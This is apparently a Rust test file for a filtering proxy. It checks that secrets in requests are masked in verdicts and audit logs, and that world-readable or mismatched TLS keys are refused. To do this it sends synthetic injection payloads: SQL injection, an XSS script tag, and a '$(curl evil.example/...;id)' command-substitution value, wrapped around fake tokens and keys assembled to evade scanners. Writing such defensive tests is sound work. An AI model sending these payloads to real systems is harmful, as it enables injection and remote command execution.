//! Nothing secret stands in verdicts and logs, and keys are nobody else's.

use std::{
    fs,
    io::Write as _,
    os::unix::fs::PermissionsExt as _,
    process::{Command, Stdio},
};

use crate::servers::{CHECKER, Certificates, Recorder, Setup, good, text, upstream, wait_until};

pub(crate) const TESTS: &[(&str, fn())] = &[
    ("no secret of a request stands in its verdict or in the audit log, wherever it was", evidence),
    ("a key that everyone may read is refused, and one may be a credential of the service manager", keys),
];

/// A secret of each kind, put together so that no scanner takes them for somebody's, and what of it must not be seen.
fn secrets() -> Vec<(String, String)> {
    let alphabet = "abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
    [
        ("41111111", "11111111", "411111111111"),
        ("DE8937040044", "0532013000", "370400440532"),
        ("eyJhbGciOiJIUzI1NiJ9", ".eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl", "zdWIiOiIxMjM"),
        ("Bearer ", "0123456789abcdefXYZ~+/", "456789abcdefXYZ"),
        ("Basic ", "QWxhZGRpbjpvcGVuIHNlc2FtZQ==", "ZGRpbjpvcGVuIHNlc2FtZ"),
        ("AKIA", "IOSFODNN7EXAMPLE", "SFODNN7EXAMPL"),
        ("ghp_", &alphabet[..36], "fghijklmnopqrst"),
        ("sk_live_", &alphabet[20..50], "uvwxyz012345678"),
        ("-----BEGIN ", "PRIVATE KEY-----MIIBVgIBADANBgkqhkiG9w0BAQEFAASC", "IBVgIBADANBgkqhkiG9"),
    ]
    .map(|(prefix, rest, core)| (format!("{prefix}{rest}"), core.to_owned()))
    .to_vec()
}

/// What makes a value one that is refused, before and behind a secret.
const ATTACKS: [(&str, &str); 3] =
    [("' or 1=1-- ", ""), ("<script>alert('", "')</script>"), ("$(curl evil.example/", ";id)")];

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

/// Requests with a value in each place where one can stand.
fn requests(value: &str) -> Vec<String> {
    let (percent, json) = (encoded(value), serde_json::to_string(value).unwrap());
    let plain = percent.replace("%2F", "-").replace("%5C", "-").replace("%2f", "-");
    let get = |target: &str, more: &str| {
        format!("GET {target} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n{more}\r\n")
    };
    let post = |kind: &str, body: &str| {
        format!(
            "POST /p HTTP/1.1\r\nHost: a\r\nConnection: close\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
    };
    let markup = value.replace('&', "&amp;").replace('<', "&lt;");
    let part = |name: &str, value: &str| {
        format!("--b\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n--b--\r\n")
    };
    vec![
        get(&format!("/a/{plain}/b"), ""),
        get(&format!("/a?q={percent}"), ""),
        get(&format!("/a?{percent}=1"), ""),
        get("/a", &format!("X-Note: {value}\r\n")),
        get("/a", &format!("Authorization: {value}\r\n")),
        get("/a", &format!("Cookie: note={percent}\r\n")),
        post("application/json", &format!("{{\"note\":[{json}]}}")),
        post("application/json", &format!("{{{json}:1}}")),
        post("application/json", &format!("{{{json}:\"' or 1=1--\"}}")),
        post("application/x-www-form-urlencoded", &format!("note={percent}")),
        post("application/x-www-form-urlencoded", &format!("{percent}=1")),
        post("multipart/form-data; boundary=b", &part("note", value)),
        post("application/xml", &format!("<a>{markup}</a>")),
        post("application/xml", &format!("<a b=\"{}\"/>", markup.replace('"', "&quot;"))),
        post("text/plain", value),
    ]
}

fn evidence() {
    use base64::{Engine as _, engine::general_purpose::STANDARD};
    let recorder = Recorder::start(|_| good("ok"));
    let proxy = Setup::new(upstream("a", recorder.port, "")).start();
    let (mut lines, mut cores, mut sent, mut refused) = (String::new(), Vec::new(), 0, 0);
    for (secret, core) in secrets() {
        for (before, behind) in ATTACKS {
            for request in requests(&format!("{before}{secret}{behind}")) {
                let raw = STANDARD.encode(&request);
                lines += &format!("{{\"raw\":\"{raw}\"}}\n");
                sent += 1;
                refused += usize::from(!proxy.answers(request.as_bytes()).starts_with("HTTP/1.1 200 "));
            }
        }
        cores.push(core);
    }
    let audit = proxy.directory.file("audit");
    let written = || fs::read_to_string(&audit).unwrap();
    wait_until("the audit log", || written().lines().count() >= refused);
    let mut check = Command::new(CHECKER)
        .args(["check", "--request", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut input = check.stdin.take().unwrap();
    let writer = std::thread::spawn(move || input.write_all(lines.as_bytes()));
    let verdicts = String::from_utf8(check.wait_with_output().unwrap().stdout).unwrap();
    writer.join().unwrap().unwrap();
    assert_eq!(verdicts.lines().count(), sent);
    println!("{refused} of {sent} requests are refused");
    // Nearly all of them: a credential's own header is no value.
    assert!(refused * 10 > sent * 8, "{refused} of {sent}");
    for log in [verdicts, written()] {
        let shown = log.lines().filter(|line| line.contains("XXXX")).count();
        assert!(shown > sent / 10, "evidence shows {shown} masked values");
        for core in &cores {
            for line in log.lines() {
                assert!(!line.to_lowercase().contains(&core.to_lowercase()), "{core}: {line}");
            }
        }
    }
}

fn keys() {
    let files = Certificates::new();
    let recorder = Recorder::start(|_| good("ok"));
    let (certificate, key) = (files.path("server.pem"), files.path("server.key"));
    fs::set_permissions(&key, fs::Permissions::from_mode(0o644)).unwrap();
    let run = |key: &str, directory: Option<&str>| {
        let mut command = Command::new(CHECKER);
        command.args([
            "proxy",
            "--listen",
            "127.0.0.1:0",
            "--tls-certificate",
            &certificate,
            "--tls-key",
            key,
        ]);
        command.args(["--upstream", "http://127.0.0.1:1"]).env_remove("CREDENTIALS_DIRECTORY");
        command.envs(directory.map(|directory| ("CREDENTIALS_DIRECTORY", directory)));
        let said = command.output().unwrap();
        assert!(!said.status.success());
        String::from_utf8_lossy(&said.stderr).into_owned()
    };
    let said = run(&key, None);
    assert!(said.contains("everyone on this host may read or write it (mode 0644)"), "{said}");
    let said = run("credential:server.key", None);
    assert!(said.contains("LoadCredential=server.key:FILE"), "{said}");
    // Another's key: said at the start, not by every handshake.
    let said = run(&files.path("client.key"), None);
    assert!(said.contains("KeyMismatch"), "{said}");
    fs::set_permissions(&key, fs::Permissions::from_mode(0o400)).unwrap();
    let mut setup = Setup::new(upstream("a", recorder.port, ""));
    setup.listen = format!("tls = {{ certificate = \"{certificate}\", key = \"credential:server.key\" }}");
    setup.credentials = Some(files.path(""));
    let proxy = setup.start();
    assert_eq!(text(&proxy.curl(&["--cacert", &files.path("ca.pem")], "/")), "ok");
}
